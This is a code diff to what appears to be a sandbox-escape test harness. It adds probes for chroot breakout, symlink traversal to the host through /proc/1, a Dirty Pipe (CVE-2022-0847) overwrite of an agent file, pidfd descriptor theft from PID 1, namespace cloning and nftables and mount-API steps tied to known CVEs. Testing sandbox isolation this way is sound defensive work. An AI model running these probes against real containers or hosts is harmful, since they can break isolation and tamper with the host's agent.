@@ -259,6 +259,86 @@ def makes_interface():
     return "an interface was made"
 
 
+def leaves_root():
+    """Leaves a changed root by a descriptor above it: from the gofer's directory of the root upwards."""
+    os.makedirs("/tmp/root", exist_ok=True)
+    if os.fork() == 0:
+        try:
+            above = os.open("/", os.O_RDONLY)
+            os.chroot("/tmp/root")
+            os.fchdir(above)
+            for _ in range(64):
+                os.chdir("..")
+            os.chroot(".")
+            os._exit(2 if os.path.isdir(os.path.dirname(marker)) else 1)
+        except OSError as e:
+            os._exit(10 + min(e.errno, 200))
+    code = os.waitstatus_to_exitcode(os.wait()[1])
+    if code == 2:
+        return "a directory of the host is there"
+    raise Denied("the root is the sandbox's") if code == 1 else OSError(code - 10, "")
+
+
+def links_of_host():
+    """Follows links that a server could resolve on the host: in the sandbox they lead nowhere."""
+    for name, to in {"direct": marker, "up": "../" * 64 + marker, "by proc": "/proc/1/root/" + "../" * 64 + marker, "by cwd": "/proc/1/cwd/" + "../" * 64 + marker}.items():
+        path = "/tmp/link " + name
+        if not os.path.islink(path):
+            os.symlink(os.path.dirname(to), path)
+        if os.path.isdir(path):
+            return path + " leads to the host"
+    raise Denied("they lead nowhere")
+
+
+def dirty_pipe():
+    """CVE-2022-0847: writes to a file that is open for reading, by way of a pipe's pages."""
+    path = os.environ.get("AGENT", "/.barchan/agent")
+    before = open(path, "rb").read(64)
+    fd = os.open(path, os.O_RDONLY)
+    out, into = os.pipe()
+    size = os.fpathconf(out, "PC_PIPE_BUF") * 16
+    os.write(into, b"x" * size)
+    os.read(out, size)
+    os.splice(fd, into, 1, offset_src=4)
+    os.write(into, b"escaped")
+    if open(path, "rb").read(64) != before:
+        return path + " was written"
+    raise Denied("the file is as it was")
+
+
+def takes_descriptor():
+    """Takes a descriptor of PID 1."""
+    pidfd = syscall(434, 1, 0)
+    return "descriptor 0 of PID 1 is %d" % syscall(438, pidfd, 0, 0)
+
+
+def clones(flag):
+    """Makes a process in a namespace of its own."""
+    def attempt():
+        pid = syscall(56, flag | 17, 0, 0, 0, 0)
+        if pid == 0:
+            os._exit(0)
+        os.waitpid(pid, 0)
+        return "clone returned %d" % pid
+    return attempt
+
+
+def nftables():
+    """Adds a table to the packet filter (the way to CVE-2024-1086)."""
+    s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 12)
+    s.settimeout(2)
+
+    def message(kind, flags, family, subsystem, body=b""):
+        data = struct.pack("=BBH", family, 0, socket.htons(subsystem)) + body
+        return struct.pack("=IHHII", 16 + len(data), kind, flags, 1, 0) + data
+    name = struct.pack("=HH", 4 + 8, 1) + b"escaped\0"
+    s.send(message(16, 1, 0, 10) + message(10 << 8, 1 | 4, 2, 0, name) + message(17, 1, 0, 10))
+    code = -struct.unpack_from("=i", s.recv(4096), 16)[0]
+    if code:
+        raise OSError(code, os.strerror(code))
+    return "a table was made"
+
+
 HOST_PORTS = (22, 111, 2375, 2376, 2379, 2380, 6443, 7700, 7743, 7764, 10250, 49983)
 
 ATTEMPTS = {
@@ -291,6 +371,17 @@ ATTEMPTS = {
     "mount cgroup": mounts("cgroup"),
     "mount sysfs": mounts("sysfs"),
     "pivot_root": calls(155, ctypes.c_char_p(b"/tmp"), ctypes.c_char_p(b"/tmp")),
+    "the new mount calls (CVE-2022-0185)": calls(430, ctypes.c_char_p(b"ext4"), 0),
+    "open_tree": calls(428, -100, ctypes.c_char_p(b"/"), 1),
+    "a mount namespace by clone": clones(0x20000),
+    "a PID namespace by clone": clones(0x20000000),
+    "a network namespace by clone": clones(0x40000000),
+    "a cgroup namespace by clone": clones(0x2000000),
+    "the directory above the root": leaves_root,
+    "links to the host": links_of_host,
+    "write through a pipe (CVE-2022-0847)": dirty_pipe,
+    "a descriptor of the agent": takes_descriptor,
+    "nftables (CVE-2024-1086)": nftables,
     "add_key": calls(248, ctypes.c_char_p(b"user"), ctypes.c_char_p(b"x"), ctypes.c_char_p(b"y"), 1, -3),
     "bpf": calls(321, 0, ctypes.create_string_buffer(128), 128),
     "io_uring": io_uring,
